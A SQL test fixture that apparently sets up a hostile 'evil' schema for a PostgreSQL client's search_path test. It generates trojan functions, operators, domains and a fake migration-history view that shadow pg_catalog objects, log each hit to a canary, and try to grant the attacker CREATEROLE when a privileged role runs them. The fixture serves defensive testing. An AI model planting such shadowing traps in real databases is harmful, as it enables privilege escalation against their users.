-- test/corpus/hostile/traps.sql: a schema `evil` full of traps, for the
-- client's hostile search_path test (test/t/026_client_encoding_path.pl).
--
-- Run by the attacker: a role that owns the database and schema evil, and
-- may set the database's search_path (ALTER DATABASE ... SET search_path =
-- evil, pg_catalog).  Every trap, when it runs, records itself and the role
-- running it in evil.canary and tries ALTER ROLE <attacker> CREATEROLE,
-- which only a privileged caller can do:
--   - a function of the same name and signature as every function of
--     pg_catalog that SQL can declare (calling the real one, so a capture
--     changes nothing but the canary), and every plain aggregate;
--   - operators =, <>, <, >, <=, >=, ||, ~~, ~, !~, &&, @>, <@, +, -, &, ->,
--     ->>, #>> on the common types;
--   - domains named like the types a client casts to, whose CHECK fires;
--   - a view named like a history table import-history reads.
-- The generator records what it made in evil.trap_log.
SET search_path = pg_catalog;
CREATE TABLE evil.canary (what text, by_role name);
GRANT SELECT, INSERT ON evil.canary TO PUBLIC;
CREATE TABLE evil.trap_log (kind text, sig text, made text);
GRANT USAGE ON SCHEMA evil TO PUBLIC;
CREATE FUNCTION evil.fire(what text) RETURNS boolean LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $$
BEGIN
	INSERT INTO evil.canary VALUES (what, current_user);
	BEGIN
		EXECUTE format('ALTER ROLE %I CREATEROLE', (SELECT r.rolname FROM pg_roles r
		                                              WHERE r.oid = (SELECT nspowner FROM pg_namespace
		                                                              WHERE nspname = 'evil')));
	EXCEPTION WHEN insufficient_privilege THEN
		NULL;
	END;
	RETURN true;
END $$;

DO $gen$
DECLARE
	f record; sig text; callargs text; body text; made text; agg text;
BEGIN
	FOR f IN SELECT p.oid, p.proname, p.prokind, p.proretset, p.pronargs, p.provariadic,
	                p.proallargtypes IS NOT NULL AS has_out, a.aggkind,
	                pg_get_function_arguments(p.oid) AS args, pg_get_function_result(p.oid) AS res,
	                p.oid::regprocedure::text AS ident
	           FROM pg_proc p LEFT JOIN pg_aggregate a ON a.aggfnoid = p.oid
	          WHERE p.pronamespace = 'pg_catalog'::regnamespace
	            AND p.proname !~ '^(fire|pg_terminate|pg_cancel|pg_reload|pg_rotate|pg_promote|pg_switch|pg_create|pg_drop|pg_replication|pg_log_|pg_stat_reset|lo_|pg_file|pg_read|pg_ls)'
	          ORDER BY 11
	LOOP
		sig := 'function ' || f.ident;
		IF f.prokind = 'f' THEN
			SELECT string_agg(CASE WHEN f.provariadic <> 0 AND i = f.pronargs THEN 'VARIADIC ' ELSE '' END || '$' || i,
			                  ', ' ORDER BY i)
			  INTO callargs FROM generate_series(1, f.pronargs) i;
			body := format('SELECT evil.fire(%L); ', sig) ||
			        CASE WHEN f.proretset OR f.has_out THEN format('SELECT * FROM pg_catalog.%I(%s)', f.proname, callargs)
			             ELSE format('SELECT pg_catalog.%I(%s)', f.proname, callargs) END;
			BEGIN
				EXECUTE format('CREATE FUNCTION evil.%I(%s) RETURNS %s LANGUAGE sql AS %L', f.proname, f.args, f.res, body);
				made := 'transparent';
			EXCEPTION WHEN OTHERS THEN
				BEGIN
					EXECUTE format('CREATE FUNCTION evil.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L', f.proname, f.args, f.res,
					               format('BEGIN PERFORM evil.fire(%L); RETURN%s; END', sig,
					                      CASE WHEN f.proretset OR f.has_out THEN '' ELSE ' NULL' END));
					made := 'fires';
				EXCEPTION WHEN OTHERS THEN
					made := 'not possible';
				END;
			END;
		ELSIF f.prokind = 'a' AND f.aggkind = 'n' THEN
			agg := 'aggtrap_' || substr(md5(sig), 1, 10);
			BEGIN
				EXECUTE format('CREATE FUNCTION evil.%I(%s) RETURNS %s LANGUAGE sql AS %L',
				               agg, concat_ws(', ', f.res, nullif(f.args, '')), f.res,
				               format('SELECT evil.fire(%L); SELECT $1', sig));
				EXECUTE format('CREATE AGGREGATE evil.%I(%s) (SFUNC = evil.%I, STYPE = %s)',
				               f.proname, coalesce(nullif(f.args, ''), '*'), agg, f.res);
				made := 'fires';
			EXCEPTION WHEN OTHERS THEN
				made := 'not possible';
			END;
		ELSE
			made := 'not possible';
		END IF;
		INSERT INTO evil.trap_log VALUES ('function', sig, made);
	END LOOP;
END
$gen$;

DO $gen$
DECLARE
	o record; sig text; fn text; made text;
BEGIN
	FOR o IN SELECT op.oprname, op.oprleft, pp.proname AS code, pp.provariadic <> 0 AS variadic,
	                format_type(nullif(op.oprleft, 0), NULL) AS l, format_type(op.oprright, NULL) AS r,
	                format_type(op.oprresult, NULL) AS res
	           FROM pg_operator op JOIN pg_proc pp ON pp.oid = op.oprcode,
	                (SELECT ARRAY['text', 'name', 'oid', 'int2', 'int4', 'int8', 'bool', 'timestamptz', 'interval',
	                              'jsonb', 'json', 'text[]', 'name[]', 'regclass', '"char"', 'xid8', 'float8', 'numeric',
	                              'anyelement', 'anyarray', 'anynonarray', 'anycompatible', 'anycompatiblearray',
	                              'anycompatiblenonarray', 'unknown']::regtype[]::oid[] AS types) t
	          WHERE op.oprnamespace = 'pg_catalog'::regnamespace
	            AND op.oprname = ANY (ARRAY['=', '<>', '<', '>', '<=', '>=', '||', '~~', '~', '!~', '&&', '@>', '<@',
	                                        '+', '-', '&', '->', '->>', '#>>'])
	            AND (op.oprleft = 0 OR op.oprleft = ANY (t.types)) AND op.oprright = ANY (t.types)
	          ORDER BY 1, 5, 6
	LOOP
		sig := format('operator %s(%s, %s)', o.oprname, coalesce(o.l, 'none'), o.r);
		fn := 'optrap_' || substr(md5(sig), 1, 10);
		BEGIN
			IF o.oprleft = 0 THEN
				EXECUTE format('CREATE FUNCTION evil.%I(%s) RETURNS %s LANGUAGE sql AS %L', fn, o.r, o.res,
				               format('SELECT evil.fire(%L); SELECT pg_catalog.%I($1)', sig, o.code));
				EXECUTE format('CREATE OPERATOR evil.%s (RIGHTARG = %s, FUNCTION = evil.%I)', o.oprname, o.r, fn);
			ELSE
				EXECUTE format('CREATE FUNCTION evil.%I(%s, %s) RETURNS %s LANGUAGE sql AS %L', fn, o.l, o.r, o.res,
				               format('SELECT evil.fire(%L); SELECT pg_catalog.%I($1, %s$2)', sig, o.code,
				                      CASE WHEN o.variadic THEN 'VARIADIC ' ELSE '' END));
				EXECUTE format('CREATE OPERATOR evil.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = evil.%I)',
				               o.oprname, o.l, o.r, fn);
			END IF;
			made := 'transparent';
		EXCEPTION WHEN OTHERS THEN
			made := 'not possible';
		END;
		INSERT INTO evil.trap_log VALUES ('operator', sig, made);
	END LOOP;
END
$gen$;

DO $gen$
DECLARE t text; made text;
BEGIN
	FOR t IN SELECT unnest(ARRAY['text', 'name', 'oid', 'int2', 'int4', 'int8', 'bool', 'timestamptz', 'interval',
	                             'jsonb', 'json', 'regclass', 'char', 'xid8', 'float8', 'numeric', 'regnamespace',
	                             'regproc', 'regprocedure', 'regtype', 'regrole', 'integer', 'bigint', 'boolean'])
	         ORDER BY 1
	LOOP
		BEGIN
			EXECUTE format('CREATE DOMAIN evil.%I AS pg_catalog.%s CHECK (evil.fire(%L))', t,
			               CASE t WHEN 'integer' THEN 'int4' WHEN 'bigint' THEN 'int8' WHEN 'boolean' THEN 'bool'
			                      ELSE quote_ident(t) END, 'type ' || t);
			made := 'transparent';
		EXCEPTION WHEN OTHERS THEN
			made := 'not possible';
		END;
		INSERT INTO evil.trap_log VALUES ('type', 'type ' || t, made);
	END LOOP;
END
$gen$;

-- import-history must not read a view of the attacker's in place of the tool's table
CREATE VIEW evil.flyway_schema_history AS
	SELECT 1 AS installed_rank, '1'::varchar AS version, 'x'::varchar AS description, true AS success
	 WHERE evil.fire('view flyway_schema_history');
GRANT SELECT ON evil.flyway_schema_history TO PUBLIC;
INSERT INTO evil.trap_log VALUES ('view', 'view flyway_schema_history', 'fires');
RESET search_path;
